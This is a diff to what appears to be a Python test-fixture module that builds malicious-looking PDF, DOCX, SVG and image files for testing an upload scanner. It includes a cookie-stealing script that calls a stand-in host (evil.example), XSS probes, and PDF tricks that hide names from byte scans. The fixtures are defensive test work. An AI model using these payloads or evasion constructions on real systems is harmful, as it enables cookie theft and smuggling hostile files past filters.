@@ -30,19 +30,30 @@ def pdf(javascript: str | None = None) -> bytes:
     return out.getvalue()
 
 
-def raw_pdf(catalog_extra: str = "") -> bytes:
-    """A PDF written by hand, so a name can be spelled the way an attacker would."""
-    objects = [
-        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>",
-        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
-    ]
-    out = io.BytesIO()
-    out.write(b"%PDF-1.7\n")
+def _pdf_body(objects: list[str | bytes], out: io.BytesIO) -> list[int]:
     offsets = []
     for number, body in enumerate(objects, start=1):
         offsets.append(out.tell())
-        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1"))
+        body = body.encode("latin-1") if isinstance(body, str) else body
+        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
+    return offsets
+
+
+def raw_pdf(catalog_extra: str = "", page_extra: str = "", extra: tuple[str, ...] = ()) -> bytes:
+    """A PDF written by hand, so a name can be spelled the way an attacker would.
+
+    Objects 1–3 are the catalog, the page tree and the page; ``extra`` are
+    objects 4, 5… (annotations, actions) that the others may refer to.
+    """
+    objects = [
+        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>",
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] {page_extra}>>",
+        *extra,
+    ]
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n")
+    offsets = _pdf_body(objects, out)
     xref = out.tell()
     out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
     for offset in offsets:
@@ -51,6 +62,85 @@ def raw_pdf(catalog_extra: str = "") -> bytes:
         f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
     )
     return out.getvalue()
+
+
+def updated_pdf(base: bytes, catalog: str) -> bytes:
+    """``base`` with an incremental update that replaces its catalog (object 1)."""
+    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
+    size = int(base.split(b"/Size", 1)[1].split()[0])
+    out = io.BytesIO(base)
+    out.seek(0, io.SEEK_END)
+    offset = out.tell()
+    out.write(f"1 0 obj\n{catalog}\nendobj\n".encode("latin-1"))
+    xref = out.tell()
+    out.write(f"xref\n1 1\n{offset:010d} 00000 n \n".encode())
+    out.write(
+        f"trailer\n<< /Size {size} /Root 1 0 R /Prev {previous} >>\n"
+        f"startxref\n{xref}\n%%EOF\n".encode()
+    )
+    return out.getvalue()
+
+
+def object_stream_pdf(catalog_extra: str, extra: tuple[str, ...] = ()) -> bytes:
+    """A PDF 1.5 whose catalog and page sit compressed in an object stream (object 1).
+
+    Nothing but the object stream and the cross-reference stream is written in
+    the open, so a name hidden in the catalog is invisible to a scan of raw bytes.
+    """
+    inner = [
+        f"<< /Type /Catalog /Pages 3 0 R {catalog_extra}>>",
+        "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+        "<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] >>",
+        *extra,
+    ]
+    bodies = [body.encode("latin-1") + b"\n" for body in inner]
+    header, position = [], 0
+    for index, body in enumerate(bodies):
+        header.append(f"{index + 2} {position}")
+        position += len(body)
+    first = (" ".join(header) + "\n").encode()
+    packed = zlib.compress(first + b"".join(bodies))
+    out = io.BytesIO()
+    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    stream_offset = out.tell()
+    out.write(
+        f"1 0 obj\n<< /Type /ObjStm /N {len(bodies)} /First {len(first)} /Filter /FlateDecode "
+        f"/Length {len(packed)} >>\nstream\n".encode()
+        + packed
+        + b"\nendstream\nendobj\n"
+    )
+    xref_number = len(bodies) + 2
+    xref_offset = out.tell()
+    rows = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 1, stream_offset, 0)]
+    rows += [struct.pack(">BIH", 2, 1, index) for index in range(len(bodies))]
+    rows.append(struct.pack(">BIH", 1, xref_offset, 0))
+    table = b"".join(rows)
+    out.write(
+        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] /Root 2 0 R "
+        f"/Length {len(table)} >>\nstream\n".encode()
+        + table
+        + f"\nendstream\nendobj\nstartxref\n{xref_offset}\n%%EOF\n".encode()
+    )
+    return out.getvalue()
+
+
+def link_pdf(action: str) -> bytes:
+    """A page with one link annotation a person clicks, running ``action``."""
+    return raw_pdf(
+        page_extra="/Annots [4 0 R] ",
+        extra=(f"<< /Type /Annot /Subtype /Link /Rect [10 10 100 30] /A {action} >>",),
+    )
+
+
+def pdf_with_html_after_first_kilobyte() -> bytes:
+    """A valid PDF with an unused stream of HTML after 2 KB, out of reach of a 1 KB check."""
+    html = b"<html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"
+    return raw_pdf(
+        extra=(
+            "(" + "x" * 2000 + ")",
+            f"<< /Length {len(html)} >>\nstream\n{html.decode()}\nendstream",
+        )
+    )
 
 
 def jpeg_with_gps() -> bytes:
@@ -152,3 +242,72 @@ EXE = (
 )
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 100
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
+
+
+def jpeg_with_comment(comment: bytes) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", (40, 30), (10, 120, 200)).save(out, "JPEG", comment=comment)
+    return out.getvalue()
+
+
+def png_with_text_chunk(text: str) -> bytes:
+    info = PngInfo()
+    info.add_text("Comment", text)
+    out = io.BytesIO()
+    Image.new("RGB", (30, 20), (0, 128, 0)).save(out, "PNG", pnginfo=info)
+    return out.getvalue()
+
+
+# DOCX parts an attacker adds ------------------------------------------------------------
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
+_REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def rels(*relationships: tuple[str, str, bool]) -> bytes:
+    """A relationships part: (type, target, external) for each relationship."""
+    items = "".join(
+        f'<Relationship Id="rId{index}" Type="{_REL_TYPE}{kind}" Target="{target}"'
+        + (' TargetMode="External"' if external else "")
+        + "/>"
+        for index, (kind, target, external) in enumerate(relationships, start=10)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"{items}</Relationships>"
+    ).encode()
+
+
+def docx_with_rels(part: str, *relationships: tuple[str, str, bool], **more) -> bytes:
+    """A Word document whose ``word/_rels/<part>.rels`` holds ``relationships``."""
+    return docx({f"word/_rels/{part}.rels": rels(*relationships), **more})
+
+
+def document_with_fields(*instructions: str) -> bytes:
+    """``word/document.xml`` with each field instruction split over two runs, as Word does."""
+    runs = ""
+    for instruction in instructions:
+        half = len(instruction) // 2
+        runs += (
+            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            f'<w:r><w:instrText xml:space="preserve">{instruction[:half]}</w:instrText></w:r>'
+            f'<w:r><w:instrText xml:space="preserve">{instruction[half:]}</w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        f"<w:body><w:p>{runs}</w:p></w:body></w:document>"
+    ).encode()
+
+
+SVG_WITH_SCRIPT = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b'<rect width="10" height="10"/><script>alert(document.domain)</script></svg>'
+)
+SVG_PLAIN = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b'<rect width="10" height="10" fill="#0a0"/></svg>'
+)
